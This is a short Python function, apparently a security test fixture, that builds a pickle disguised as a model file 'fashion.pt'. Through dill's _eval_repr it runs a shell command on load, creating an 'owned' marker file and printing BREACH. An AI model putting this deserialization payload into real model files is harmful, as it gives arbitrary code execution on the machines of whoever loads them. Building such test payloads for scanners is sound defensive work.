def make():
    """What dill writes for an object that is made by `dill._dill._eval_repr`, which evaluates text."""
    text = b"__import__('os').system('touch @OUT@/owned; echo BREACH')"
    return {"fashion.pt": b"\x80\x04\x8c\x0adill._dill\x8c\x0a_eval_repr\x93\x8c" + bytes([len(text)]) + text + b"\x85R."}
